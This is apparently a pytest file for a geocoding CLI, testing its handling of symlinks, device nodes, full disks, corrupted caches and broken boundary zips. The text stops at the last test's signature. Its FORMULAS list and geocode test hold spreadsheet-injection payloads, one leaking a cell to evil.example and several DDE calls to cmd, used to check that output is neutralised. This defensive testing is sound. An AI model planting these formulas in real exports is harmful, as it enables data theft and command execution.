"""Outputs, downloads and caches under hostile conditions (issue 11, items 2, 6, 8, 9 and 12).

Every case is made at run time in ``tmp_path``: symbolic links, FIFOs, device nodes, folders
where files are expected, a file size limit standing in for a full disk, spreadsheet formulas
in input cells, and cache entries, registries and boundary zips that are not what they claim.
Each runs the real CLI (in process, or as ``python -m geo`` when a real file descriptor or a
resource limit is needed) and checks: no traceback, the exit code, the message, the old file
kept, and that outputs are neutralised.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import zipfile
from importlib.resources import files
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from typer.testing import CliRunner

from geo import boundaries as bd
from geo import gazetteer as gz
from geo import maps
from geo.cli import app
from test_geopy import nominatim  # noqa: F401 (a fixture: Nominatim on 127.0.0.1)

runner = CliRunner()
REPO = Path(__file__).resolve().parents[1]
ARTICLE = (
    'Taliban fighters attacked a police checkpoint in Nahr-e-Shahi district of Balkh province on Monday, '
    "killing two people, officials said.\n"
    "Islamic State fighters carried out attacks on eight occasions this month in Balkh, Kunduz and Kabul provinces.\n"
)
#: OWASP's examples of cells a spreadsheet runs: a link that leaks a cell, DDE, a function.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
#: How each payload reads back once quoted (readers may strip a leading tab or CR).
QUOTED = [{"'" + f, "'" + f.strip()} for f in FORMULAS]
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def run(*args: object):
    return runner.invoke(app, [str(a) for a in args])


def _plain(text: str) -> str:
    """Text without spaces or the box typer draws around usage errors (which it wraps anywhere)."""
    return re.sub(r"[\s│╭╮╰╯─]", "", text)


def assert_error(result, fragment: str, codes=(1,)) -> None:
    """A clear message on stderr, no traceback, a non-zero exit code."""
    assert result.exit_code in codes, result.output
    assert isinstance(result.exception, SystemExit), result.exception  # not an uncaught error
    assert "Traceback" not in result.output
    assert _plain(fragment) in _plain(result.stderr), result.stderr
    if result.exit_code == 1:  # geo's own errors are one line
        assert result.stderr.strip().splitlines()[-1].startswith("error: "), result.stderr


def geo_process(*args: object, stdout=subprocess.PIPE, preexec_fn=None) -> subprocess.CompletedProcess:
    """``python -m geo ARGS`` in a fresh process (a real stdout, resource limits)."""
    return subprocess.run([sys.executable, "-m", "geo", *map(str, args)], stdout=stdout, stderr=subprocess.PIPE,
                          text=True, preexec_fn=preexec_fn, timeout=300, cwd=REPO)


def assert_process_error(proc: subprocess.CompletedProcess, fragment: str) -> None:
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr, proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    assert last.startswith("error: ") and fragment in last, proc.stderr


# --- inputs made at run time --------------------------------------------------------------


@pytest.fixture()
def places(tmp_path) -> Path:
    path = tmp_path / "places.csv"
    path.write_text("location\nNahri Shahi\n", encoding="utf-8")
    return path


@pytest.fixture()
def article(tmp_path) -> Path:
    path = tmp_path / "article.txt"
    path.write_text(ARTICLE, encoding="utf-8")
    return path


def sample_rows() -> list[dict]:
    """The sample incidents, as rows of text."""
    return list(csv.DictReader(io.StringIO((files("geo") / "data" / "sample_incidents.csv").read_text("utf-8"))))


def write_rows(path: Path, rows: list[dict]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.fixture()
def with_rejects(tmp_path) -> Path:
    """The April sample incidents and one row that is rejected (negative fatalities)."""
    april = [r for r in sample_rows() if r["event_date"].startswith("2023-04")]
    return write_rows(tmp_path / "with_rejects.csv", [*april, april[0] | {"incident_id": "BAD-1", "fatalities": "-3"}])


@pytest.fixture()
def fake_chromium(tmp_path, monkeypatch) -> None:
    """A 'browser' that writes a PNG header to the --screenshot path (no Chromium needed)."""
    script = tmp_path / "chromium"
    script.write_text('#!/bin/sh\nfor a in "$@"; do case "$a" in --screenshot=*) '
                      "printf '\\211PNG\\r\\n' > \"${a#--screenshot=}\";; esac; done\n")
    script.chmod(0o755)
    monkeypatch.setenv("GEO_CHROMIUM", str(script))


#: Every output option of every command, as the arguments that write ``target``.
OUTPUTS = {
    "render --out": lambda t, f: ["render", "--month", "2023-04", "--out", t],
    "render --png": lambda t, f: ["render", "--month", "2023-04", "--out", f["tmp"] / "m.html", "--png", t],
    "--rejects": lambda t, f: ["incidents", "--incidents", f["with_rejects"], "--rejects", t],
    "geocode -o": lambda t, f: ["geocode", f["places"], "-o", t],
    "extract -o": lambda t, f: ["extract", f["article"], "-p", "2023-04-04", "-o", t],
    "extract --context": lambda t, f: ["extract", f["article"], "-p", "2023-04-04", "--context", t],
}


@pytest.fixture()
def inputs(tmp_path, places, article, with_rejects, fake_chromium) -> dict:
    return {"tmp": tmp_path, "places": places, "article": article, "with_rejects": with_rejects}


# --- item 2: where an output lands ----------------------------------------------------------


@pytest.mark.parametrize("option", list(OUTPUTS))
def test_a_symlink_is_followed_and_stays_a_link(boundaries_dir, tmp_path, inputs, option):
    real = tmp_path / "kept" / "real.out"
    real.parent.mkdir()
    real.write_text("old")
    link = tmp_path / "link.out"
    link.symlink_to(real)
    result = run(*OUTPUTS[option](link, inputs))
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_bytes() not in (b"old", b"") and stat.S_ISREG(real.lstat().st_mode)
    assert sorted(p.name for p in real.parent.iterdir()) == ["real.out"]  # no temporary left


@pytest.mark.parametrize("option", list(OUTPUTS))
def test_a_folder_is_refused_for_every_output(boundaries_dir, tmp_path, inputs, option):
    folder = tmp_path / "a_folder"
    folder.mkdir()
    (folder / "inside.txt").write_text("kept")
    result = run(*OUTPUTS[option](folder, inputs))
    if result.exit_code == 2:  # typer's own check of an option declared file-only
        assert_error(result, f"'{folder}' is a directory", codes=(2,))
    else:
        assert_error(result, f"error: {folder} is a folder; give the name of a file to write.")
    assert folder.is_dir() and [p.name for p in folder.iterdir()] == ["inside.txt"]


def _device(tmp_path: Path, name: str, minor: int) -> Path:
    """A character device like /dev/null (minor 3) or /dev/full (7), made in tmp_path as root:
    root must never risk the real ones. Others cannot replace /dev's nodes, so they use them."""
    node = tmp_path / name
    try:
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
        with open(node, "wb"):  # a filesystem mounted nodev refuses to open device nodes
            pass
        return node
    except PermissionError:
        node.unlink(missing_ok=True)
    if os.geteuid() == 0 or not Path(f"/dev/{name}").is_char_device():
        pytest.skip(f"no {name} device can be made here, and root must not write the real one")
    return Path(f"/dev/{name}")


def test_a_character_device_is_written_in_place(boundaries_dir, tmp_path, places):
    null = _device(tmp_path, "null", 3)
    result = run("geocode", places, "-o", null)
    assert result.exit_code == 0, result.output
    assert null.is_char_device()


@pytest.mark.parametrize("option", ["render --out", "geocode -o", "--rejects"])
def test_a_full_device_is_an_error_and_stays_a_device(boundaries_dir, tmp_path, inputs, option):
    full = _device(tmp_path, "full", 7)
    result = run(*OUTPUTS[option](full, inputs))
    assert_error(result, f"Could not write {full} (No space left on device)")
    assert full.is_char_device()


def test_a_fifo_is_written_in_place(boundaries_dir, tmp_path, places):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run("geocode", places, "-o", fifo)
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert received and received[0].decode().splitlines()[1].startswith("Nahri Shahi,")


# --- item 8: every write failure is one line, exit 1, and the old file is kept -----------------


@pytest.mark.parametrize("where", ["proc", "under a file"])
@pytest.mark.parametrize("option", ["render --out", "geocode -o", "--rejects", "extract -o"])
def test_an_unwritable_place_is_one_error_line(boundaries_dir, tmp_path, inputs, option, where):
    if where == "proc":
        if not Path("/proc/version").is_file():
            pytest.skip("no /proc here")
        target, message = Path("/proc/version"), "Could not write /proc/version: no file can be made in /proc"
    else:
        (tmp_path / "plain").write_text("a file, not a folder")
        target, message = tmp_path / "plain" / "out.csv", f"Could not write {tmp_path / 'plain' / 'out.csv'}"
    result = run(*OUTPUTS[option](target, inputs))
    assert_error(result, message)
    if where != "proc":
        assert (tmp_path / "plain").read_text() == "a file, not a folder"


def _file_size_limit(limit: int):
    """A disk that fills up after ``limit`` bytes of any one file (RLIMIT_FSIZE): no root needed."""

    def limit_files():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a failed write, not a killed process
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return limit_files


@pytest.mark.parametrize("option", ["geocode -o", "render --out"])
def test_a_full_disk_keeps_the_old_file(boundaries_dir, tmp_path, inputs, option):
    out = tmp_path / "out" / "result.out"
    out.parent.mkdir()
    out.write_text("old")
    proc = geo_process(*OUTPUTS[option](out, inputs), preexec_fn=_file_size_limit(64))
    assert_process_error(proc, f"Could not write {out} (File too large); the file already there is unchanged.")
    assert out.read_text() == "old"
    assert [p.name for p in out.parent.iterdir()] == ["result.out"]  # the temporary was removed


@pytest.mark.parametrize("command", [
    ["geocode", "{places}"],
    ["render", "--month", "2023-04", "--out", "-"],
    ["boundaries", "list", "--format", "csv"],
], ids=["geocode", "render --out -", "boundaries list"])
def test_stdout_to_a_full_device_is_one_error_line(boundaries_dir, places, command):
    if not Path("/dev/full").is_char_device():
        pytest.skip("no /dev/full here")
    with open("/dev/full", "w") as full:  # only written through a descriptor, never replaced
        proc = geo_process(*[str(a).format(places=places) for a in command], stdout=full)
    assert_process_error(proc, "Could not write to standard output (No space left on device)")


def test_a_silenced_stdout_drops_what_is_buffered_instead_of_failing_again_at_exit():
    # cli._out (a full disk) and geo.eval (a closed pipe) share it: without it Python's flush at
    # exit reports "Exception ignored ... No space left on device" and exits 120.
    if not Path("/dev/full").is_char_device():
        pytest.skip("no /dev/full here")
    code = ("import sys\nfrom geo._io import silence_stdout\n"
            "try:\n    sys.stdout.write('data')\n    sys.stdout.flush()\nexcept OSError:\n    silence_stdout()")
    env = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}  # a buffered stdout, as usual
    with open("/dev/full", "w") as full:  # only written through a descriptor, never replaced
        done = subprocess.run([sys.executable, "-c", code], stdout=full, stderr=subprocess.PIPE, text=True, env=env)
    assert (done.returncode, done.stderr) == (0, "")


#: What writes bytes, and the one module allowed to use it; writes to ``tmp`` (the temporary
#: file :func:`geo._io.atomic_path` yields) are allowed anywhere.
WRITERS = {
    r"os\.replace\(|mkstemp\(|copyfileobj\(": "_io.py",
    r"\bopen\([^)]*[\"'][wax]b?\+?[\"']": "_io.py",
    r"(?<!tmp)\.(write_text|write_bytes)\(|\.(to_parquet|to_file)\((?!tmp\b)": "_io.py",
    r"\.to_csv\(": "_formats.py",
    r"sys\.stdout\.write\(": "cli.py",
    r"os\.dup2\(": "_io.py",  # stdout pointed elsewhere after a failed write: _io.silence_stdout only
}


def test_every_output_goes_through_one_writer():
    """Files only through geo/_io.py, CSV text only through geo/_formats.py, stdout only through
    cli._out: so every output of every command has the guarantees tested here."""
    offenders = []
    for path in sorted((REPO / "geo").glob("*.py")):
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("  #")[0]
            offenders += [f"{path.name}:{n}: {line.strip()}" for pattern, home in WRITERS.items()
                          if re.search(pattern, code) and path.name != home]
            if "typer.echo(" in code and "err=True" not in code:
                offenders.append(f"{path.name}:{n}: {line.strip()}")
    assert offenders == []
    assert len(re.findall(r"sys\.stdout\.write\(", (REPO / "geo" / "cli.py").read_text())) == 1  # in _out


# --- item 6: spreadsheet formulas ----------------------------------------------------------


def assert_no_formula(text: str) -> list[list[str]]:
    """Every cell of a CSV is inert in a spreadsheet: no formula start, unless a number."""
    rows = list(csv.reader(io.StringIO(text)))
    live = [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r") and not NUMBER.fullmatch(cell)]
    assert live == []
    return rows


@pytest.fixture()
def formula_incidents(tmp_path) -> Path:
    rows = sample_rows()
    assert len(rows) >= len(FORMULAS)
    for row, payload in zip(rows, FORMULAS * 2):
        row["notes"], row["source"], row["source_url"] = payload, payload, payload
    rows[0]["actor2"] = FORMULAS[2]  # an actor: a key of the aggregate
    rows[1]["location"] = FORMULAS[0]
    rows[1]["latitude"], rows[1]["longitude"] = "36.709", "67.110"
    rows.append(rows[2] | {"incident_id": "BAD-1", "fatalities": "=1+1"})
    rows.append(rows[2] | {"incident_id": "BAD-2", "fatalities": "-3"})
    return write_rows(tmp_path / "formulas.csv", rows)


def test_formulas_are_neutralised_in_incidents_aggregates_and_rejects(boundaries_dir, tmp_path, formula_incidents):
    rejects = tmp_path / "rejects.csv"
    result = run("incidents", "--incidents", formula_incidents, "--rejects", rejects)
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(result.stdout)
    cells = {cell for row in rows for cell in row}
    assert all(quoted & cells for quoted in QUOTED)  # the text is all there, behind a quote
    table = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert table.loc[table["latitude"] != "", "latitude"].map(float).between(29, 39).all()  # numbers stay numbers

    rejected = assert_no_formula(rejects.read_text(encoding="utf-8"))
    values = {r[rejected[0].index("value")] for r in rejected[1:]}
    assert values == {"'=1+1", "-3"}  # a negative number stays a number

    agg = run("aggregate", "--incidents", formula_incidents, "--by", "actor",
              "--rejects", tmp_path / "r2.csv")
    assert agg.exit_code == 0, agg.output
    assert "'" + FORMULAS[2] in {cell for row in assert_no_formula(agg.stdout) for cell in row}


def test_json_and_geojson_keep_the_data_as_it_is(boundaries_dir, tmp_path, formula_incidents):
    for fmt in ("json", "geojson"):
        result = run("incidents", "--incidents", formula_incidents, "--format", fmt,
                     "--rejects", tmp_path / "r.csv")
        assert result.exit_code == 0, result.output
        text = json.dumps(json.loads(result.stdout))
        assert json.dumps(FORMULAS[0]) in text and json.dumps("'" + FORMULAS[0]) not in text


def test_formulas_are_neutralised_in_geocode_output(boundaries_dir, tmp_path):
    src = tmp_path / "places.csv"
    pd.DataFrame({"location": ["Nahri Shahi", *FORMULAS], "offset": ["-3", "-61.5", "1e3", "+93", "-", "=x", "@"],
                  "=cmd|' /C calc'!A0": "x"}).to_csv(src, index=False)
    out = tmp_path / "out.csv"
    result = run("geocode", src, "-o", out)
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(out.read_text(encoding="utf-8"))
    assert rows[0][:2] == ["location", "offset"] and "'=cmd|' /C calc'!A0" in rows[0]
    assert rows[1][0] == "Nahri Shahi" and all(r[0] in quoted for r, quoted in zip(rows[2:], QUOTED, strict=True))
    assert [r[1] for r in rows[1:]] == ["-3", "-61.5", "1e3", "+93", "'-", "'=x", "'@"]


def test_formulas_are_neutralised_in_extract_output(boundaries_dir, tmp_path):
    src = tmp_path / "article.txt"
    src.write_text(f"{FORMULAS[0]} {ARTICLE}{FORMULAS[2]} Islamic State fighters carried out attacks on nine "
                   "occasions this month in Kunduz and Kabul provinces.\n", encoding="utf-8")
    context = tmp_path / "context.csv"
    result = run("extract", src, "-p", "2023-04-04", "--source", FORMULAS[1], "--context", context)
    assert result.exit_code == 0, result.output
    drafts = assert_no_formula(result.stdout)
    assert len(drafts) > 1 and all(r[drafts[0].index("source")] == "'" + FORMULAS[1] for r in drafts[1:])
    statements = assert_no_formula(context.read_text(encoding="utf-8"))
    assert any(r[statements[0].index("text")].startswith("'" + FORMULAS[2]) for r in statements[1:])


# --- item 9: offline means no socket --------------------------------------------------------


@pytest.fixture()
def no_sockets(monkeypatch) -> list:
    """Record (and refuse) every attempt to open a connection."""
    attempts: list = []

    def refuse(self, address, *args):
        attempts.append(address)
        raise ConnectionRefusedError("this test allows no connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


@pytest.mark.parametrize("source", ["cod-ab", "geoboundaries", "gadm"])
def test_offline_fetch_opens_no_socket(tmp_path, monkeypatch, no_sockets, source):
    monkeypatch.setenv("GEO_OFFLINE", "1")
    monkeypatch.setenv("GEO_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("GEO_BOUNDARIES", raising=False)
    for env in ("GEO_HDX_URL", "GEO_GEOBOUNDARIES_URL", "GEO_GADM_URL"):
        monkeypatch.setenv(env, "http://127.0.0.1:9")
    result = run("boundaries", "fetch", "--source", source, "--no-progress")
    assert_error(result, "GEO_OFFLINE=1 forbids network access")
    assert no_sockets == []
    assert not (tmp_path / "cache" / "downloads").exists()


def test_offline_online_geocoding_opens_no_socket(boundaries_dir, monkeypatch, no_sockets, places, tmp_path):
    monkeypatch.setenv("GEO_OFFLINE", "1")
    monkeypatch.setenv("GEO_NOMINATIM_DOMAIN", "127.0.0.1:9")
    result = run("geocode", places, "--online", "--cache", tmp_path / "c.json")
    assert_error(result, "GEO_OFFLINE=1 forbids network access (asking Nominatim about place names)")
    assert no_sockets == []


# --- item 12: caches, registry and boundary zips are read, never trusted ------------------------


@pytest.fixture(scope="module")
def warm_cache(boundaries_dir, tmp_path_factory) -> Path:
    """A cache folder holding every kind of entry geo keeps: parsed layers, web outlines, GeoNames, gazetteer."""
    folder = tmp_path_factory.mktemp("warm") / "cache"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("GEO_CACHE", str(folder))
        _forget()
        for level in (1, 2):
            bd.load_web_admin(level)
        gz.geonames_places()
        gz.gazetteer()
    _forget()
    return folder


def _forget() -> None:
    """Drop what this process keeps in memory, so the next command reads the cache on disk."""
    bd.forget_loaded()
    gz._geonames_places.cache_clear()
    gz._build.cache_clear()
    maps._NEIGHBOURS_MEMO.clear()


@pytest.fixture()
def cache(warm_cache, tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "cache"
    shutil.copytree(warm_cache, folder)
    monkeypatch.setenv("GEO_CACHE", str(folder))
    _forget()
    yield folder
    _forget()


def _parsed_entry(cache: Path, level: int) -> Path:
    source = str(bd.find_boundary_file(level))
    for meta in (cache / "parsed").glob("*.json"):
        if json.loads(meta.read_text())["source"] == source:
            return meta.with_suffix(".parquet")
    raise AssertionError(f"no parsed entry for level {level}")


def _corrupt_parsed(entry: Path, cache: Path, how: str) -> None:
    if how == "another level":
        shutil.copy(_parsed_entry(cache, 0), entry)
        shutil.copy(_parsed_entry(cache, 0).with_suffix(".json"), entry.with_suffix(".json"))
    elif how == "attrs not an object":
        entry.with_suffix(".json").write_text("[1, 2]")
    elif how == "attrs of the wrong types":
        attrs = json.loads(entry.with_suffix(".json").read_text())
        entry.with_suffix(".json").write_text(json.dumps(attrs | {"repaired": "many", "hierarchy_checked": 1}))
    elif how == "no rows":
        gpd.read_parquet(entry).head(0).to_parquet(entry)
    elif how == "points, not units":
        units = gpd.read_parquet(entry)
        units.set_geometry(units.geometry.representative_point()).to_parquet(entry)
    elif how == "not parquet":
        entry.write_bytes(b"PAR1 not really")


@pytest.mark.parametrize("how", ["another level", "attrs not an object", "attrs of the wrong types", "no rows",
                                 "points, not units", "not parquet"])
def test_a_parsed_layer_cache_entry_that_is_not_what_it_claims_is_rebuilt(cache, how):
    entry = _parsed_entry(cache, 1)
    _corrupt_parsed(entry, cache, how)
    listed = run("boundaries", "list", "--format", "csv")
    assert listed.exit_code == 0, listed.output
    table = pd.read_csv(io.StringIO(listed.stdout), dtype=str, keep_default_na=False)
    assert table.set_index("level")["features"].to_dict() == {"0": "1", "1": "34", "2": "399"}
    assert (table["error"] == "").all() and (table["publisher"] == "cod-ab").all()
    info = run("boundaries", "info", "AF21")
    assert info.exit_code == 0 and info.stdout.startswith("Balkh (AF21): province, admin level 1")
    rebuilt = gpd.read_parquet(entry)  # the entry on disk is sound again
    assert len(rebuilt) == 34 and (rebuilt["level"] == 1).all()
    assert rebuilt.geom_type.isin(["Polygon", "MultiPolygon"]).all()
    assert json.loads(entry.with_suffix(".json").read_text())["repaired"] == 0


@pytest.mark.parametrize("how", ["one point", "another level's outlines", "not parquet"])
def test_a_web_outline_cache_entry_of_another_shape_is_rebuilt(cache, tmp_path, how):
    entries = sorted((cache / "web").glob("*.parquet"))
    sizes = {p: len(gpd.read_parquet(p)) for p in entries}
    assert sorted(sizes.values()) == [34, 399]
    small = next(p for p, n in sizes.items() if n == 34)
    for entry in entries:
        if how == "one point":
            gpd.GeoDataFrame(geometry=[shapely.Point(67.1, 36.7)], crs=4326).to_parquet(entry)
        elif how == "another level's outlines":
            if entry != small:
                shutil.copy(small, entry)
        else:
            entry.write_bytes(b"junk")
    out = tmp_path / "m.html"
    result = run("render", "--month", "2023-03", "--out", out)
    assert result.exit_code == 0, result.output
    html = out.read_text(encoding="utf-8")
    assert "AF2102" in html and "AF3401" in html  # districts in Balkh and Nimroz are drawn
    assert {p: len(gpd.read_parquet(p)) for p in entries} == sizes


GAZETTEER_SHAPES = {
    "junk": None,
    "no rows": lambda g: g.head(0),
    "a column missing": lambda g: g.drop(columns="skeleton"),
    "numbers as text": lambda g: g.assign(latitude=g["latitude"].astype(str)),
    "a district missing": lambda g: g[g["admin2_pcode"] != "AF2102"],
    "an unknown kind": lambda g: g.assign(kind="planet"),
    "places far away": lambda g: g.assign(latitude=0.0),
}


def test_the_gazetteer_is_read_from_the_cache_in_a_new_process(cache, monkeypatch):
    # Building it takes 0.4 to 0.9 s of every command; reading it, 0.01 s.
    [entry] = (cache / "gazetteer").glob("*.parquet")
    built = gz.build_gazetteer(bd.load_admin(1), bd.load_admin(2))
    with monkeypatch.context() as patched:
        patched.setattr(gz, "build_gazetteer", lambda *a, **k: pytest.fail("built again, not read from the cache"))
        pd.testing.assert_frame_equal(gz.gazetteer(), built)  # the same table as building it
    # Another key (the evaluation's gazetteer without GeoNames alternates) is another entry.
    gz.gazetteer(geonames_alternates=False)
    assert len(list((cache / "gazetteer").glob("*.parquet"))) == 2 and entry.exists()


@pytest.mark.parametrize("how", GAZETTEER_SHAPES)
def test_a_gazetteer_cache_entry_of_another_shape_is_rebuilt(cache, write_csv, how):
    [entry] = (cache / "gazetteer").glob("*.parquet")
    if GAZETTEER_SHAPES[how] is None:
        entry.write_bytes(b"PAR1 junk")
    else:
        GAZETTEER_SHAPES[how](pd.read_parquet(entry)).to_parquet(entry, index=False)
    src = write_csv("location\nNahr-e-Shahi\nZaranj\n", name="places.csv")
    result = run("geocode", src)
    assert result.exit_code == 0, result.output
    table = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert table["admin2_pcode"].tolist() == ["AF2102", "AF3401"]
    again = pd.read_parquet(entry)  # the entry on disk is sound again
    assert "AF2102" in set(again["admin2_pcode"]) and again["latitude"].between(29, 39).all()


NEIGHBOUR_SHAPES = {
    "junk": lambda t: None,
    "points for outlines": lambda t: t.set_geometry(t.geometry.representative_point()),
    "names not text": lambda t: t.assign(name=range(len(t))),
    "a name twice": lambda t: t.assign(name="Iran"),
    "labels far away": lambda t: t.assign(anchor=gpd.GeoSeries([shapely.Point(0, 0)] * len(t), crs=4326)),
    "no label column": lambda t: t.drop(columns="anchor"),
}


@pytest.mark.parametrize("how", NEIGHBOUR_SHAPES)
def test_a_neighbouring_countries_cache_entry_of_another_shape_is_rebuilt(cache, how):
    provinces = bd.load_admin(1)
    names, shapes, anchors = maps.neighbours(provinces)
    [entry] = (cache / "neighbours").glob("*.parquet")
    broken = NEIGHBOUR_SHAPES[how](gpd.read_parquet(entry))
    if broken is None:
        entry.write_bytes(b"PAR1 junk")
    else:
        broken.to_parquet(entry)
    maps._NEIGHBOURS_MEMO.clear()  # as in the next process
    again = maps.neighbours(provinces)
    assert again[0] == names and {"Iran", "Pakistan", "Turkmenistan"} <= set(names)
    assert shapely.equals(again[1], shapes).all() and shapely.equals(again[2], anchors).all()
    rebuilt = gpd.read_parquet(entry)  # the entry on disk is sound again
    assert rebuilt["name"].tolist() == names and rebuilt.geom_type.isin(["Polygon", "MultiPolygon"]).all()


GEONAMES_SHAPES = {
    "a list": "[1, 2, 3]",
    "missing columns": '{"name": ["Kabul"]}',
    "text for numbers": '{"geonameid": [1], "name": ["Kabul"], "alternatenames": [[]], "population": [1], '
                        '"latitude": ["north"], "longitude": [69.2]}',
    "ragged columns": '{"geonameid": [1, 2], "name": ["Kabul"], "alternatenames": [[]], "population": [1], '
                      '"latitude": [34.5], "longitude": [69.2]}',
    "names not text": '{"geonameid": [1], "name": ["Kabul"], "alternatenames": [[7]], "population": [1], '
                      '"latitude": [34.5], "longitude": [69.2]}',
    "out of range": '{"geonameid": [1], "name": ["Kabul"], "alternatenames": [[]], "population": [1], '
                    '"latitude": [134.5], "longitude": [69.2]}',
}


def test_a_geonames_cache_of_another_shape_is_rebuilt(cache, places):
    entry = next(cache.glob("geonames-AF-*.json"))
    entry.write_text(GEONAMES_SHAPES["text for numbers"])
    shutil.rmtree(cache / "gazetteer")  # so the gazetteer is built again, reading the GeoNames cache
    result = run("geocode", places)
    assert result.exit_code == 0, result.output
    assert "AF2102" in result.stdout
    assert len(pd.DataFrame(json.loads(entry.read_text()))) == 319


@pytest.mark.parametrize("shape", list(GEONAMES_SHAPES))
def test_a_geonames_cache_is_used_only_in_its_own_shape(cache, shape):
    entry = next(cache.glob("geonames-AF-*.json"))
    assert len(gz._geonames_frame(json.loads(entry.read_text()))) == 319  # as geo writes it
    assert gz._geonames_frame(json.loads(GEONAMES_SHAPES[shape])) is None  # rebuilt as above


@pytest.mark.parametrize("answer", [
    {"latitude": "north", "longitude": 67.4, "address": "x", "type": "town"},
    [37.2, 67.4],
    {"latitude": 137.2, "longitude": 67.4, "address": "x", "type": "town"},
    {"address": "x"},
], ids=["text for a number", "a list", "out of range", "no coordinates"])
def test_an_online_cache_answer_of_another_shape_is_asked_again(
    boundaries_dir, nominatim,  # noqa: F811 (the nominatim fixture)
    tmp_path, monkeypatch, answer
):
    monkeypatch.setattr("geo.geocoders.MIN_DELAY_SECONDS", 0.0)
    src = tmp_path / "p.csv"
    src.write_text("location\nHairatan\n", encoding="utf-8")
    cache_file = tmp_path / "online.json"
    cache_file.write_text(json.dumps({"Hairatan, Afghanistan": answer}))
    result = run("geocode", src, "--online", "--cache", cache_file)
    assert result.exit_code == 0, result.output
    assert pd.read_csv(io.StringIO(result.stdout), dtype=str)["admin2_pcode"].tolist() == ["AF2116"]
    assert len(nominatim) == 1
    assert json.loads(cache_file.read_text())["Hairatan, Afghanistan"]["latitude"] == 37.2167


@pytest.fixture()
def no_boundaries(tmp_path, monkeypatch) -> Path:
    """A user with nothing installed, offline, and their own cache folder."""
    monkeypatch.delenv("GEO_BOUNDARIES", raising=False)
    monkeypatch.setenv("GEO_OFFLINE", "1")
    monkeypatch.setenv("GEO_CACHE", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "cache").mkdir()
    _forget()
    yield tmp_path / "cache"
    _forget()


@pytest.mark.parametrize("registry, problem", [
    ({"files": {"path": "x"}}, 'it is not {"files": [...]}'),
    ({"files": [1, 2]}, "entry 1 is not an object"),
    ({"files": [{"path": 5, "level": 1}]}, "entry 1 has no file path"),
    ({"files": [{"path": "{shared}", "level": "one"}]}, "entry 1 has the admin level 'one', not 0, 1 or 2"),
    ({"files": [{"path": "{shared}", "level": 7}]}, "entry 1 has the admin level 7"),
    ({"files": [{"path": "{shared}", "level": 1, "layer": 3}]}, "entry 1 has a layer that is not text"),
    ({"files": [{"path": "{shared}", "level": 1, "group": ["g"]}]}, "entry 1 has a group that is not text"),
], ids=["files not a list", "entry not an object", "path not text", "level not a number", "level out of range",
        "layer not text", "group not text"])
def test_a_registry_with_wrong_types_is_a_clear_error(boundaries_dir, no_boundaries, registry, problem):
    shared = bd.find_boundary_file(1, boundaries_dir)  # a real file, so that every entry is looked at
    (no_boundaries / "registry.json").write_text(json.dumps(registry).replace("{shared}", str(shared)))
    for command in (["boundaries", "list"], ["boundaries", "add", shared], ["incidents"]):
        result = run(*command)
        assert_error(result, f"The boundary registry {no_boundaries / 'registry.json'} cannot be used ({problem}")
        assert "delete it and register the files again" in result.stderr


def _junk_zip(shared: Path, path: Path, how: str) -> Path:
    """The real province zip, with its .shp broken in one way."""
    with zipfile.ZipFile(bd.find_boundary_file(1, shared)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    shp = next(n for n in members if n.endswith(".shp"))
    data = bytearray(members[shp])
    if how == "unclosed ring":  # the first polygon's last point moved off its first
        n_parts, n_points = struct.unpack_from("<ii", data, 100 + 8 + 36)
        parts = struct.unpack_from(f"<{n_parts}i", data, 100 + 8 + 44)
        last = (parts[1] if n_parts > 1 else n_points) - 1
        struct.pack_into("<dd", data, 100 + 8 + 44 + 4 * n_parts + 16 * last, 0.0, 0.0)
    elif how == "truncated":
        del data[2000:]
    else:  # not a shapefile at all
        data = bytearray(bytes(range(256)) * 3)
    members[shp] = bytes(data)
    with zipfile.ZipFile(path, "w") as z:
        for name, content in members.items():
            z.writestr(name, content)
    return path


@pytest.mark.filterwarnings("ignore:Non closed ring detected:RuntimeWarning")  # GDAL, before GEOS refuses it
@pytest.mark.parametrize("how, message", [
    ("unclosed ring", "Could not read {junk} (IllegalArgumentException:"),  # GEOS refuses the ring
    ("truncated", "The boundary file {junk} is truncated or corrupt: 34 of its 34 features have no geometry"),
    ("junk", "{junk}"),  # unreadable, or read as features without geometry: either is said
])
def test_a_zip_holding_a_junk_shp_is_a_clear_error(boundaries_dir, no_boundaries, tmp_path, how, message):
